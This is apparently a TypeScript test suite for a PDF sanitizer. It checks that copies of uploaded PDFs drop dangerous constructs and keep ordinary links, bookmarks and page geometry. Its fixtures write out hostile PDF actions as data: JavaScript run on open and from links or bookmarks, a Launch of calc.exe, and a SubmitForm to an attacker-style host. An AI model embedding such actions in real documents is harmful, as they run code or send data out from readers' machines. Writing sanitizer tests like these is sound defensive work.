import { PDFDocument } from 'pdf-lib';
import { afterAll, expect, test } from 'vitest';
import { createPage, type PageParts } from '../../../test/support/bare-page.ts';
import { writePdf } from '../../../test/support/small-pdf.ts';
import { PdfIntake } from './intake.ts';
import { PDF, PdfArray, PdfDict } from './libpdf.ts';

const words = 'BT /F1 14 Tf 72 700 Td (Price 100) Tj ET';
const intake = new PdfIntake();
afterAll(() => intake.close());

/** The copy as its objects say it, whatever they are packed into. */
async function copyOf(parts: PageParts): Promise<{ text: string; pdf: PDF }> {
  const file = createPage(words, parts);
  const { copy, completionMode } = await intake.read(file);
  expect(completionMode).toBe('stamp');
  const pdf = await PDF.load(copy ?? new Uint8Array(file));
  const plain = await (await PDFDocument.load(copy ?? file)).save({ useObjectStreams: false });
  return { text: Buffer.from(plain).toString('latin1'), pdf };
}

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
test.each<[string, PageParts]>([
  ['a script that runs on opening', { catalog: `/OpenAction ${script}` }],
  ['a program that is started on opening', { catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' }],
  [
    'an address that is fetched on opening',
    { catalog: '/OpenAction << /S /SubmitForm /F (http://evil.example) >>' },
  ],
  [
    'what follows a harmless action',
    { catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${script} >>` },
  ],
  ['scripts of the document', { catalog: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` }],
  ['actions of the document', { catalog: `/AA << /WP ${script} >>` }],
  ['actions of a page', { page: `/AA << /O ${script} >>` }],
  [
    'the script of a link',
    { page: '/Annots [6 0 R]', objects: [`<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${script} >>`] },
  ],
  [
    'the script of a bookmark',
    {
      catalog: '/Outlines 6 0 R',
      objects: ['<< /First 7 0 R /Last 7 0 R /Count 1 >>', `<< /Title (x) /Parent 6 0 R /A ${script} >>`],
    },
  ],
])('the copy does not bring along %s', async (_what, parts) => {
  const { text } = await copyOf(parts);
  expect(text).not.toMatch(/JavaScript|Launch|SubmitForm|app\.alert/);
});

const image = (more: string): string =>
  `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray ${more} /Length 1 >>\nstream\nA\nendstream`;
const emptyForm = (more: string): string =>
  `<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] ${more} /Length 1 >>\nstream\nn\nendstream`;
const drawn = (first: string): PageParts => ({
  resources: '/XObject << /X0 6 0 R >>',
  objects: [first, image('')],
});
test.each<[string, PageParts]>([
  [
    'an attachment in place of the pages',
    { catalog: '/Collection << /Type /Collection /View /D /D (o.pdf) >>' },
  ],
  [
    'another image for those who print',
    drawn(image('/Alternates [<< /Image 7 0 R /DefaultForPrinting true >>]')),
  ],
  ['another image for a prepress server', drawn(image('/OPI << /2.0 << /Type /OPI /F (o.tif) >> >>'))],
  ['the same of a form', drawn(emptyForm('/OPI << /2.0 << /Type /OPI /F (o.tif) >> >>'))],
  ['the page of another file', drawn(emptyForm('/Ref << /F (o.pdf) /Page 0 >>'))],
])('the copy does not bring along %s', async (_what, parts) => {
  const { text } = await copyOf(parts);
  expect(text).not.toMatch(/\/(Collection|Alternates|OPI|Ref)\b/);
});

test('links to places and addresses stay, bookmarks too', async () => {
  const { text } = await copyOf({
    catalog: '/Outlines 7 0 R /OpenAction [3 0 R /Fit]',
    page: '/Annots [6 0 R]',
    objects: [
      '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /Border [0 0 1] /A << /S /URI /URI (https://example.com) >> >>',
      '<< /First 8 0 R /Last 8 0 R /Count 1 >>',
      '<< /Title (Chapter) /Parent 7 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>',
    ],
  });
  expect(text).toContain('https://example.com');
  expect(text).toContain('Chapter');
  expect(text).toMatch(/\/OpenAction/);
});

test('a layer shows itself to those who print as to those who sign', async () => {
  const { text } = await copyOf({
    catalog:
      '/OCProperties << /OCGs [6 0 R] /D << /OFF [6 0 R] /AS [<< /Event /Print /Category [/Print] /OCGs [6 0 R] >>] >> >>',
    resources: '/Properties << /MC0 6 0 R >>',
    objects: ['<< /Type /OCG /Name (x) /Usage << /Print << /PrintState /ON >> >> >>'],
  });
  expect(text).not.toMatch(/\/Usage|\/AS\b/);
  expect(text).toMatch(/\/OFF/);
});

test('what is above the page and no link is hidden', async () => {
  const { pdf } = await copyOf({
    page: '/Annots [6 0 R]',
    objects: ['<< /Type /Annot /Subtype /Square /Rect [0 0 90 90] /IC [1 1 1] /F 4 >>'],
  });
  const resolve = pdf.context.registry.resolve.bind(pdf.context.registry);
  const annotations = pdf.getPages()[0]?.dict.get('Annots', resolve);
  const left = annotations instanceof PdfArray ? annotations.at(0, resolve) : undefined;
  expect(left instanceof PdfDict ? left.getNumber('F')?.value : 2).toBe(2);
});

test('words about a signature do not keep a file from being copied', async () => {
  const marked = Buffer.concat([createPage(words), Buffer.from('% /ByteRange [0 1 2 3]\n')]);
  expect(await intake.read(marked)).toMatchObject({ completionMode: 'stamp' });
});

const sheetOf = (page: string): Uint8Array =>
  Buffer.from(
    createPage(words, { page })
      .toString('latin1')
      .replace('/MediaBox [0 0 612 792]', '')
      .replaceAll('  ', ' '),
    'latin1',
  );
const numbersOf = (dict: PdfDict, key: string): unknown => {
  const value = dict.get(key);
  return value instanceof PdfArray
    ? value.toArray().map((one) => (one as { value?: unknown }).value)
    : (value as { value?: unknown } | undefined)?.value;
};

test.each<[what: string, page: string, shown: Record<string, unknown>]>([
  [
    'a turn by half a corner',
    '/MediaBox [0 0 300 400] /Rotate 45',
    { MediaBox: [0, 0, 300, 400], Rotate: 0 },
  ],
  [
    'a crop beside the sheet',
    '/MediaBox [0 0 300 400] /CropBox [500 500 600 600]',
    { CropBox: [0, 0, 300, 400] },
  ],
  [
    'a crop that reaches out of it',
    '/MediaBox [0 0 300 400] /CropBox [50 50 900 300]',
    { CropBox: [50, 50, 300, 300] },
  ],
  ['a negative unit', '/MediaBox [0 0 300 400] /UserUnit -1', { UserUnit: 1 }],
  ['no sheet', '', { MediaBox: [0, 0, 612, 792] }],
])('%s, which each reader would show otherwise, is said as it was shown', async (_what, page, shown) => {
  const { copy } = await intake.read(sheetOf(page));
  const dict = (await PDF.load(copy ?? new Uint8Array())).getPages()[0]?.dict ?? new PdfDict();
  for (const [key, value] of Object.entries(shown)) expect(numbersOf(dict, key), key).toEqual(value);
});

test('contents that are no streams, at which some readers stop, are left out', async () => {
  const bare = createPage(words)
    .toString('latin1')
    .replace('/Contents 4 0 R', '/Contents [(x) 4 0 R 99 0 R]');
  const { copy } = await intake.read(Buffer.from(bare, 'latin1'));
  const pdf = await PDF.load(copy ?? new Uint8Array());
  const contents = pdf.getPages()[0]?.dict.get('Contents');
  expect(contents instanceof PdfArray ? contents.length : 1).toBe(1);
});

test('a page that stands where the tree should begin gets a tree', async () => {
  const lone = writePdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Page /MediaBox [0 0 300 300] >>']);
  const { copy, pageCount } = await intake.read(lone);
  const pdf = await PDF.load(copy ?? lone);
  const resolve = pdf.context.registry.resolve.bind(pdf.context.registry);
  const root = pdf.context.catalog.getDict().getDict('Pages', resolve);
  expect([pageCount, root?.getArray('Kids', resolve)?.length]).toEqual([1, 1]);
});

test.each<[string, PageParts, drawn: boolean]>([
  ['a group that only the tree has', { tree: '/Resources << /XObject << /X0 6 0 R >> >>' }, true],
  [
    'not a name in the tree beside a group of the page',
    { tree: '/Resources << /XObject << /X0 6 0 R >> >>', resources: '/XObject << /X1 6 0 R >>' },
    false,
  ],
  [
    'a name of the content',
    {
      contents: '/Resources << /XObject << /X0 6 0 R >> >>',
      resources: '/XObject << /X1 6 0 R >>',
    },
    true,
  ],
])('the page itself has the resources that it was shown with, %s', async (_what, parts, drawn) => {
  const form = '<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Length 1 >>\nstream\nn\nendstream';
  const { pdf } = await copyOf({ ...parts, objects: [form] });
  const resolve = pdf.context.registry.resolve.bind(pdf.context.registry);
  const page = pdf.getPages()[0]?.dict;
  const own = page?.getDict('Resources', resolve);
  expect(own?.getDict('XObject', resolve)?.has('X0') ?? false).toBe(drawn);
  expect(own?.getDict('Font', resolve)?.has('F1')).toBe(true);
  const stream = page?.get('Contents', resolve);
  expect(stream instanceof PdfDict && stream.has('Resources')).toBe(false);
});
